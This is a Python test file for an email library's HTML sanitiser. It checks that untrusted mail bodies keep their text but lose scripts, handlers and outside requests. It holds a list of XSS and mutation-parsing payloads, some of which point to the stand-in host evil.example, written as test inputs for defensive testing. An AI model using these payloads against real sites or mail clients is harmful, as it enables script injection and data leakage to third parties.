"""A kept body is a stranger's HTML: nothing in what is drawn of it acts or asks outside, and its text stays."""

from __future__ import annotations

import csv
import os
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import html5lib
import pytest
from documents import DOCUMENTS
from hypothesis import given
from hypothesis import strategies as st

from flask_mailtrack.drawing import AuthoredBody, LinkPlace, Manner, SlotPlace, draw

CORPUS = Path(os.environ.get("MAILTRACK_CORPUS") or Path(__file__).parents[2] / "shared" / "corpus")
URLS = {"href", "src", "srcset", "background", "action", "formaction", "data", "poster", "cite", "longdesc", "ping"}
ACTIVE = {"script", "base", "link", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "svg", "math"}
UNSEEN = {"script", "style", "title", "iframe", "noembed", "noframes", "template", "svg", "math"}
EACH = 1 if os.environ.get("MAILTRACK_CORPUS") else 9
"""The reader of these tests is slow, so that all mails are only read if somebody asks for it."""
ONLINE = Manner(pictures=lambda url: True, link=lambda place: f"https://links.example.com/{place.position}")


def elements(page: str) -> list[Any]:
    """All elements that a browser makes of a page."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    return [each for each in tree.iter() if isinstance(each.tag, str)]


def faults(page: str, online: bool = False) -> list[str]:
    """What acts in a page, or asks outside."""
    found = []
    for element in elements(page):
        tag = element.tag.rpartition("}")[2]
        if tag in ACTIVE or (
            tag == "meta" and (element.get("name") != "viewport" or element.get("http-equiv") is not None)
        ):
            found.append(f"<{tag}>")
        for name, value in element.items():
            url = value.strip().lower()
            data = name == "src" and url.startswith("data:image/")
            link = online and name == "href" and tag in ("a", "area")
            link = link and url.startswith(("http://", "https://", "mailto:", "tel:"))
            picture = online and name in ("src", "background") and url.startswith(("http://", "https://"))
            if name.lower().startswith("on") or (name in URLS and not (data or link or picture)):
                found.append(f"{tag} {name}={value[:40]}")
            if name == "style":
                found += plain_css(value, online)
        if tag == "style":
            found += plain_css(element.text or "", online)
    return found


def plain_css(text: str, online: bool) -> list[str]:
    """What a style sheet plainly loads, or does."""
    urls = re.findall(r"url\(\s*[\"']?([^\"')]*)", text, re.IGNORECASE)
    good = ("data:image/", "#", *(("http://", "https://") if online else ()))
    found = [url for url in urls if not url.strip().lower().startswith(good)]
    return [*found, *re.findall(r"(?i)@import|expression\s*\(|behavior\s*:|-moz-binding\s*:|javascript\s*:", text)]


def text_of(page: str) -> str:
    """The text that a reader sees, whatever white space is in it."""

    def walk(element: Any) -> Iterator[str]:
        if isinstance(element.tag, str) and element.tag.rpartition("}")[2] not in UNSEEN:
            yield element.text or ""
            for child in element:
                yield from walk(child)
                yield child.tail or ""

    body = html5lib.parse(page, namespaceHTMLElements=False).find("body")
    return " ".join("".join(walk(body)).split()) if body is not None else ""


def test_what_is_drawn_of_real_mails_does_nothing_and_says_the_same() -> None:
    """Of each real mail all text stays, and nothing that acts or asks outside, under a map and for a reader."""
    if not (CORPUS / "MANIFEST.tsv").is_file():
        pytest.skip("needs a folder of real mails with a MANIFEST.tsv; set MAILTRACK_CORPUS to its path")
    with (CORPUS / "MANIFEST.tsv").open(encoding="utf-8", newline="") as manifest:
        rows = list(csv.DictReader(manifest, delimiter="\t"))
    wrong = []
    for row in rows[::EACH]:
        html = (CORPUS / row["path"]).read_bytes().decode(row["charset"])
        body = AuthoredBody.unpacked(AuthoredBody(html).packed())
        drawn, online = draw(body, Manner()), draw(body, ONLINE)
        wrong += [(row["path"], fault) for fault in (*faults(drawn), *faults(online, online=True))]
        if text_of(drawn) != text_of(html):
            wrong.append((row["path"], "text"))
    assert len(rows) > 600
    assert wrong == []


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: document.name)
def test_the_text_of_odd_documents_stays(document: Any) -> None:
    """Whatever an author writes around it, the text of a mail is drawn, once."""
    drawn = draw(AuthoredBody(document.html), Manner())
    assert text_of(drawn) == text_of(document.html)
    assert faults(drawn) == []


ATTACKS = [
    "<script>alert(1)</script>",
    "<<!-- -->script>alert(1)</script>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href='https://evil.example/'><a href='/x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta name=viewport http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button formaction=https://evil.example/>x</button></form>",
    "<input type=image src=https://evil.example/x>",
    "<img src=https://evil.example/x srcset='https://evil.example/y 2x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<table background=https://evil.example/x><tr><td background=//evil.example/y>x</td></tr></table>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<style>@import url(https://evil.example/x.css);@import 'https://evil.example/y.css';a{color:red}</style>",
    "<style>a{background:url(https://evil.example/x)}</style>",
    "<style><!-- a{color:red} --></style>",
    "<style>a{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml)}</style>",
    "<style></style/x><img src=x onerror=alert(1)>",
    "<area href=javascript:alert(1)><img usemap=https://evil.example/ src=x>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p id=a id=b onclick=alert(1) style=color:red style=background:url(https://evil.example)>x",
    "<object data=https://evil.example/x><embed src=https://evil.example/y></object>",
    "<video poster=https://evil.example/x src=https://evil.example/y><source src=https://evil.example/z></video>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    """No script, no handler, no address outside, however a stranger writes it, and none for a reader but links."""
    body = AuthoredBody(f"<p>before</p>{attack}<p>after</p>")
    assert faults(draw(body, Manner())) == []
    assert faults(draw(body, ONLINE), online=True) == []
    assert "evil.example" not in draw(body, Manner()) or attack.startswith(("<xmp", "<title", "<plaintext"))


SCRAPS = st.lists(
    st.sampled_from([*ATTACKS, "<", ">", "<!--", "-->", "<style>", "</style>", "<svg>", "'", '"', " a=", "x"])
)


@given(SCRAPS, st.integers(0, 400))
def test_no_heap_of_scraps_does_anything(scraps: list[str], cut: int) -> None:
    """Torn and joined in any way, what a stranger writes does nothing when it is drawn."""
    body = AuthoredBody("".join(scraps)[cut:])
    assert faults(draw(body, Manner())) == []
    assert faults(draw(body, ONLINE), online=True) == []


def test_layout_pictures_and_links_stay_where_a_reader_wants_them() -> None:
    """A reader gets the author's tables, colours and pictures, the tracked link, and the personal links."""
    html = (
        '<!DOCTYPE html><body bgcolor=red><table width="600" style="background:url(https://cdn.example.com/b.png)"><tr>'
        '<td><a href="https://example.com/a?x=1&amp;y=2" target=_blank data-mailtrack-name=hero>A &amp; B</a>'
        '<img src="https://cdn.example.com/a.png" width=10><img src=https://pixel.invalid/ width=1>'
        '<a href="https://unsubscribe.invalid/">leave</a> or https://unsubscribe.invalid/.</td></tr></table>'
    )
    start = html.index("https://example.com/a")
    link = LinkPlace(start, html.index('" target'), 3, "https://example.com/a?x=1&y=2", "hero")
    pixel = html.index("<img src=https://pixel")
    url = "https://unsubscribe.invalid/"
    first, second = html.index(url), html.rindex(url)
    slots = (
        SlotPlace(pixel, html.index("<a", pixel), "pixel"),
        *(SlotPlace(at, at + len(url), "unsubscribe") for at in (first, second)),
    )
    body = AuthoredBody(html, (link,), slots)
    own = "https://links.example.com/m/u/abc"
    manner = Manner(
        pictures=ONLINE.pictures, link=ONLINE.link, slots={"unsubscribe": own}, before=lambda place: "<b>3</b>"
    )
    assert draw(body, manner) == (
        '<!DOCTYPE html><body bgcolor="red"><table width="600" style="background:url(https://cdn.example.com/b.png)">'
        '<tr><td><b>3</b><a rel="noreferrer" href="https://links.example.com/3">A &amp; B</a>'
        '<img src="https://cdn.example.com/a.png" width="10">'
        f'<a rel="noreferrer" href="{own}">leave</a> or {own}.</td></tr></table>'
    )
    drawn = draw(body, Manner(head="<style></style>"))
    assert drawn.startswith("<!DOCTYPE html><style></style><body")
    assert "example.com" not in drawn
    assert "invalid" not in drawn


def test_a_damaged_body_is_no_crash() -> None:
    """A row that was cut or replaced raises the error that its readers expect."""
    for content in (b"", b"x", AuthoredBody("<p>x</p>").packed()[:-8]):
        with pytest.raises(ValueError, match=r"damaged|Expecting"):
            AuthoredBody.unpacked(content)


@pytest.mark.parametrize(
    "scrap", ["<", "<!--", "<style>@import url(", "<p style='url(\"", "<!x>", "<a href=x ", "<svg><"]
)
def test_a_hostile_body_takes_no_longer_than_its_length(scrap: str) -> None:
    """Half a million characters of unfinished markup are drawn within a second or two, not within minutes."""
    body = AuthoredBody(scrap * (200_000 // len(scrap)))
    began = time.process_time()
    draw(body, ONLINE)
    assert time.process_time() - began < 5
